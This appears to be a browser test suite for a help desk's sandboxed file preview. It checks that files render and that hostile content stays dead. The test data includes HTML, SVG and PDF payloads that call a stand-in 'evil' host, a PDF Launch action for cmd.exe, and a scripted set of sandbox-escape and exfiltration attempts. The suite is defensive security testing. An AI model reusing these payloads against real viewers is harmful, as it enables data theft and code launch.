// Somebody sends files that mean harm, and somebody looks at them. Then the same
// page is given to an attacker altogether: even its own code could reach nothing.
//
// Promise: the real server's page and policy, in a host with the widget's policy;
// every request of the browser is recorded. Limit: holes in Chromium's own
// decoders are outside of what a test can show.

import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { deflateSync } from "node:zlib";
import { bundle, demandAccess, launchBrowser, startDesk, watchPage, widePng } from "./harness/index.mjs";

const HOST_POLICY =
  "default-src 'none'; script-src 'self'; img-src 'self' data: blob:; connect-src 'self'; frame-src 'self'";
const stage = {};

const base64 = (text) => Buffer.from(text, "latin1").toString("base64");

/** A page of the desk's origin that embeds previews as the widget does, and keeps a secret. */
async function openHost() {
  const context = await stage.browser.newContext();
  const page = await context.newPage();
  const requests = [];
  const answers = [];
  context.on("request", (request) => requests.push(request.url()));
  context.on("response", (answer) => answers.push(answer.url()));
  const watched = watchPage(page);
  await page.route(`${stage.desk.origin}/host`, (route) =>
    route.fulfill({
      contentType: "text/html",
      headers: { "Content-Security-Policy": HOST_POLICY },
      body: "<!doctype html><html lang=en><link rel=icon href=data:,><title>Host</title><body>",
    }),
  );
  await page.goto(`${stage.desk.origin}/host`);
  await page.evaluate(() => localStorage.setItem("secret", "the key"));
  for (const code of stage.code) await page.evaluate(code);
  const show = (kind, content, theme) =>
    page.evaluate(([k, c, t]) => globalThis.showFile(k, c, t), [kind, content, theme]);
  const frame = () => page.frames().find((candidate) => candidate.url().includes("/preview/"));
  return { page, show, frame, requests, answers, watched };
}

/** Every address but those of the preview's own code, and what was made in memory. */
const strange = (requests) =>
  requests.filter(
    (url) =>
      url !== `${stage.desk.origin}/host` &&
      !url.startsWith(`${stage.desk.origin}/preview/`) &&
      !/^(?:blob:null\/|data:,$)/.test(url),
  );

/** How many points of the page's picture are dark, and how many red. */
function inkOn(frame) {
  return frame.evaluate(() => {
    const canvas = document.querySelector("canvas");
    const { data } = canvas.getContext("2d").getImageData(0, 0, canvas.width, canvas.height);
    let dark = 0;
    let red = 0;
    for (let at = 0; at < data.length; at += 4) {
      if (data[at] < 90 && data[at + 1] < 90 && data[at + 2] < 90) dark++;
      if (data[at] > 150 && data[at + 1] < 60 && data[at + 2] < 60) red++;
    }
    return { dark, red };
  });
}

before(async () => {
  stage.heard = [];
  stage.stranger = createServer((request, answer) => {
    stage.heard.push(request.url);
    answer.end();
  }).listen(0, "127.0.0.1");
  stage.datagrams = createSocket("udp4", () => stage.heard.push("a datagram")).bind(0, "127.0.0.1");
  await Promise.all([once(stage.stranger, "listening"), once(stage.datagrams, "listening")]);
  stage.desk = await startDesk();
  stage.browser = await launchBrowser();
  stage.code = [
    await bundle("web/packages/ui/test/preview-in-browser.ts"),
    await bundle("web/packages/files/test/in-browser.ts"),
  ];
  stage.evil = `http://127.0.0.1:${stage.stranger.address().port}`;
});

after(async () => {
  await stage.browser?.close();
  await stage.desk?.stop();
  stage.stranger?.close();
  stage.datagrams?.close();
});

test("what was cleaned on the sender's device still plays and shows, and gives nobody away", async () => {
  const { page, show, frame, requests, watched } = await openHost();
  const names = await page.evaluate(() => globalThis.fileNames);
  assert.ok(names.length >= 10);
  for (const name of names) {
    const sent = await page.evaluate((n) => globalThis.cleanFile(n), name);
    assert.deepEqual([sent.left, sent.uncleaned], [[], false], name);
    assert.equal(await show(sent.preview, sent.base64), "shown", name);
    await demandAccess(frame());
  }
  const photo = await page.evaluate(() => globalThis.cleanFile("photo.jpg"));
  await show("image", photo.base64);
  const size = await frame().evaluate(() => {
    const { naturalWidth, naturalHeight } = document.querySelector("img");
    return [naturalWidth, naturalHeight];
  });
  assert.deepEqual(size, [8, 16], "the orientation is kept: 16 by 8, turned by a quarter");
  assert.deepEqual(strange(requests), []);
  watched.demandSilence();
});

test("a PDF is drawn, and its words can be read aloud and selected", async () => {
  const { page, show, frame } = await openHost();
  const { base64: letter } = await page.evaluate(() => globalThis.cleanFile("letter.pdf"));
  assert.equal(await show("pdf", letter, "dark"), "shown");
  await frame().getByRole("region", { name: "Page 1 of 1" }).getByText("The parcel was damaged").waitFor();
  const inked = await inkOn(frame());
  assert.ok(inked.dark > 100, `${inked.dark} dark points: no letters were drawn`);
  assert.ok(inked.red > 100, `${inked.red} red points: the photo was not drawn`);
});

test("a scanned page and Chinese words are drawn with what the desk itself brings", async () => {
  const { page, show, frame, requests, answers } = await openHost();
  const scan = await page.evaluate(() =>
    globalThis.makePdf({
      content: "q 300 0 0 200 0 0 cm /Im Do Q",
      resources: "/XObject << /Im 5 0 R >>",
      more: [
        // 64 by 64 points, every line like the one before it (ITU-T T.6), then the end of the block.
        `<< /Type /XObject /Subtype /Image /Width 64 /Height 64 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter [/ASCIIHexDecode /CCITTFaxDecode] /DecodeParms [null << /K -1 /Columns 64 /Rows 64 /BlackIs1 true >>] /Length 23 >>\nstream\n${"FF".repeat(8)}001001>\nendstream`,
      ],
    }),
  );
  assert.equal(await show("pdf", scan), "shown");
  const { dark } = await inkOn(frame());
  assert.ok(dark > 100_000, `${dark} dark points: the scan was not drawn`);
  const chinese = await page.evaluate(() =>
    globalThis.makePdf({
      content: "BT /F1 18 Tf 20 100 Td <4F60597D> Tj ET",
      resources:
        "/Font << /F1 << /Type /Font /Subtype /Type0 /BaseFont /SimSun /Encoding /UniGB-UCS2-H /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /SimSun /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /FontDescriptor << /Type /FontDescriptor /FontName /SimSun /Flags 4 >> >>] >> >>",
    }),
  );
  assert.equal(await show("pdf", chinese), "shown");
  await frame().getByText("你好").waitFor();
  for (const part of ["pdf/wasm/jbig2_nowasm_fallback.js", "pdf/cmaps/UniGB-UCS2-H.bcmap.js"])
    assert.ok(answers.includes(`${stage.desk.origin}/preview/${part}`), part);
  assert.deepEqual(strange(requests), []);
});

test("pages and drawings with scripts are shown as the text they are, whatever they claim to be", async () => {
  const { show, frame, requests } = await openHost();
  const page = `<!DOCTYPE html><script>fetch("${stage.evil}/a")</script><img src="${stage.evil}/b" onerror="alert(1)"><meta http-equiv="refresh" content="0;url=${stage.evil}/c">`;
  const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${stage.evil}/d')"><image href="${stage.evil}/e"/><script>alert(2)</script></svg>`;
  for (const content of [page, drawing]) {
    assert.equal(await show("text", base64(content)), "shown");
    assert.equal(await frame().locator("pre").textContent(), content);
    assert.equal(await frame().locator("svg, pre *, img, a").count(), 0);
    for (const kind of ["image", "pdf", "audio", "video"]) {
      assert.equal(await show(kind, base64(content)), "failed", kind);
      await frame()
        .getByRole("alert")
        .getByText("This file cannot be shown. You can still save it.")
        .waitFor();
    }
  }
  assert.deepEqual([strange(requests), stage.heard], [[], []]);
});

test("a PDF's scripts, links, launches and attached files stay dead", async () => {
  const { page, show, frame, requests, watched } = await openHost();
  const hostile = await page.evaluate((evil) => {
    const catalog = `/OpenAction << /S /JavaScript /JS (app.launchURL\\("${evil}/js"\\); fetch\\("${evil}/js2"\\)) >> /AA << /WC << /S /URI /URI (${evil}/wc) >> >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >> /EmbeddedFiles << /Names [(a.html) 6 0 R] >> >> /AcroForm << /Fields [7 0 R] /NeedAppearances true >>`;
    const annots = `/Annots [5 0 R 7 0 R << /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /Launch /F (cmd.exe) >> >>] /AA << /O << /S /URI /URI (${evil}/open) >> >>`;
    return globalThis.makePdf({
      catalog,
      page: annots,
      more: [
        `<< /Type /Annot /Subtype /Link /Rect [0 0 300 200] /A << /S /URI /URI (${evil}/link) >> >>`,
        `<< /Type /Filespec /F (${evil}/file) /EF << /F 4 0 R >> >>`,
        `<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 9 9] /AA << /F << /S /JavaScript /JS (fetch\\("${evil}/aa"\\)) >> >> >>`,
      ],
    });
  }, stage.evil);
  assert.equal(await show("pdf", hostile), "shown");
  await frame().getByText("The parcel was damaged").waitFor();
  assert.equal(await frame().locator("a, form, input, iframe, object, embed, script:not([src])").count(), 0);
  await frame().locator("section").click();
  assert.equal(page.context().pages().length, 1);
  assert.ok(page.url().endsWith("/host"));
  assert.deepEqual([strange(requests), stage.heard], [[], []]);
  watched.demandSilence();
});

test("what is damaged or locked is said in plain words", async () => {
  const { page, show, frame } = await openHost();
  const locked = await page.evaluate(() =>
    globalThis.makePdf({
      more: [`<< /Filter /Standard /V 1 /R 2 /P -4 /O <${"00".repeat(32)}> /U <${"11".repeat(32)}> >>`],
      trailer: "/Encrypt 5 0 R /ID [<01> <01>]",
    }),
  );
  assert.equal(await show("pdf", locked), "failed");
  await frame().getByRole("alert").getByText("This file opens with a password only.").waitFor();
  const { base64: photo } = await page.evaluate(() => globalThis.cleanFile("screen.png"));
  const damaged = [
    ["image", photo.slice(0, 28)],
    ["pdf", base64("%PDF-1.7\nnothing")],
    ["audio", base64("fLaC\x00")],
    ["video", base64("\0\0\0\x18ftypisom\0\0\0\0isom")],
    ["image", ""],
  ];
  for (const [kind, content] of damaged) {
    assert.equal(await show(kind, content), "failed", kind);
    await frame().getByRole("alert").getByText("This file cannot be shown. You can still save it.").waitFor();
    await demandAccess(frame());
  }
});

test("even code of an attacker in the page reaches no network, no storage, no keys and no other page", async () => {
  const { page, show, frame, answers } = await openHost();
  await show("text", base64("hello"));
  const reached = await frame().evaluate(
    async ([evil, own, udp]) => {
      const found = [];
      const attempt = async (name, act) => {
        try {
          if (await act()) found.push(name);
        } catch {
          // refused: that is the promise
        }
      };
      const loads = (element, url) =>
        new Promise((resolve) => {
          element.onload = () => resolve(true);
          element.onerror = () => resolve(false);
          element.src = url;
          document.body.append(element);
          setTimeout(resolve, 1500, false);
        });
      for (const to of [evil, own]) {
        await attempt(`fetch ${to}`, async () => (await fetch(`${to}/x`, { mode: "no-cors" })) !== undefined);
        await attempt(`beacon ${to}`, () => navigator.sendBeacon(`${to}/x`, "x") && false);
        await attempt(`image ${to}`, () => loads(new Image(), `${to}/x.png`));
        await attempt(`frame ${to}`, async () => {
          const inner = document.createElement("iframe");
          await loads(inner, `${to}/x`);
          return inner.contentDocument !== null;
        });
        await attempt(
          `socket ${to}`,
          () =>
            new Promise((resolve) => {
              const socket = new WebSocket(to.replace("http", "ws"));
              socket.onopen = () => resolve(true);
              socket.onerror = () => resolve(false);
            }),
        );
        await attempt(
          `events ${to}`,
          () =>
            new Promise((resolve) => {
              const events = new EventSource(`${to}/x`);
              events.onopen = () => resolve(true);
              events.onerror = () => resolve(false);
            }),
        );
      }
      await attempt("a foreign script", () => loads(document.createElement("script"), `${evil}/x.js`));
      await attempt(
        "a worker",
        () =>
          new Promise((resolve) => {
            const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
            worker.onmessage = () => resolve(true);
            worker.onerror = () => resolve(false);
          }),
      );
      await attempt("code in text", () => new Function("return true")());
      await attempt("an inline script", () => {
        const script = document.createElement("script");
        script.textContent = "globalThis.ran = true";
        document.body.append(script);
        return globalThis.ran === true;
      });
      await attempt("a call", async () => {
        const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] });
        call.createDataChannel("x");
        await call.setLocalDescription(await call.createOffer());
        await new Promise((resolve) => setTimeout(resolve, 1500));
        return false; // whether anything left is heard outside
      });
      await attempt("storage", () => localStorage.length >= 0);
      await attempt("databases", () => indexedDB.open("x") !== null);
      await attempt("cookies", () => document.cookie !== undefined);
      await attempt("caches", async () => (await caches.keys()) !== undefined);
      await attempt("the host's document", () => parent.document !== null);
      await attempt("the host's storage", () => parent.localStorage !== null);
      await attempt("a window", () => window.open(`${evil}/w`) !== null);
      await attempt("the whole page", () => {
        top.location = `${evil}/top`;
        return false;
      });
      await attempt("a form", () => {
        const form = document.createElement("form");
        form.action = `${evil}/form`;
        document.body.append(form);
        form.submit();
        return false;
      });
      await attempt("a dialog", () => confirm("give me your password"));
      return found;
    },
    [stage.evil, stage.desk.origin, stage.datagrams.address().port],
  );
  assert.deepEqual(reached, []);
  assert.equal(await frame().evaluate(() => globalThis.origin), "null");
  await frame()
    .evaluate((evil) => location.assign(`${evil}/self`), stage.evil)
    .catch(() => undefined);
  await page.waitForTimeout(300);
  assert.ok(page.url().endsWith("/host"));
  assert.deepEqual([strange(answers), stage.heard], [[], []]);
});

/** A page whose content, of spaces, is that long once it is unpacked. */
const longPdf = (size) => {
  const packed = deflateSync(Buffer.alloc(size, " ")).toString("latin1");
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R >>",
    `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed}\nendstream`,
  ];
  const body = objects.map((object, n) => `${n + 1} 0 obj\n${object}\nendobj\n`).join("");
  return Buffer.from(`%PDF-1.7\n${body}trailer\n<< /Root 1 0 R /Size 5 >>\n%%EOF\n`, "latin1");
};

test("a small file that would fill the memory is not drawn, and that is said", async () => {
  const { page, show, frame } = await openHost();
  assert.equal(await show("image", widePng(1000).toString("base64")), "shown");
  assert.equal(await show("pdf", longPdf(1 << 20).toString("base64")), "shown");
  for (const [kind, file] of [
    ["image", widePng(30_000)],
    ["image", widePng(13_000)],
    ["pdf", longPdf(256 << 20)],
  ]) {
    assert.ok(file.length < 1 << 20, `${file.length} bytes are no small file`);
    assert.equal(await show(kind, file.toString("base64")), "failed");
    await frame().getByText("This file cannot be shown. You can still save it.").waitFor();
    const { drawn } = await frame().evaluate(() => ({
      drawn: document.querySelectorAll("img, canvas").length,
    }));
    assert.equal(drawn, 0);
  }
  assert.equal(await page.evaluate(() => localStorage.getItem("secret")), "the key");
});

test("when it is closed, nothing is left of it; when it cannot come, that is said", async () => {
  const { page, show } = await openHost();
  await show("text", base64("hello"));
  await page.evaluate(() => globalThis.disposeFile());
  assert.equal(await page.locator("iframe").count(), 0);
  await page.clock.install();
  await page.route("**/preview/", (route) => route.abort());
  const waiting = show("text", base64("hello"));
  await page.locator("iframe").waitFor({ state: "attached" });
  await page.clock.fastForward(20_000);
  assert.equal(await waiting, "failed");
  await page.getByRole("alert").getByText("This file cannot be shown.").waitFor();
});
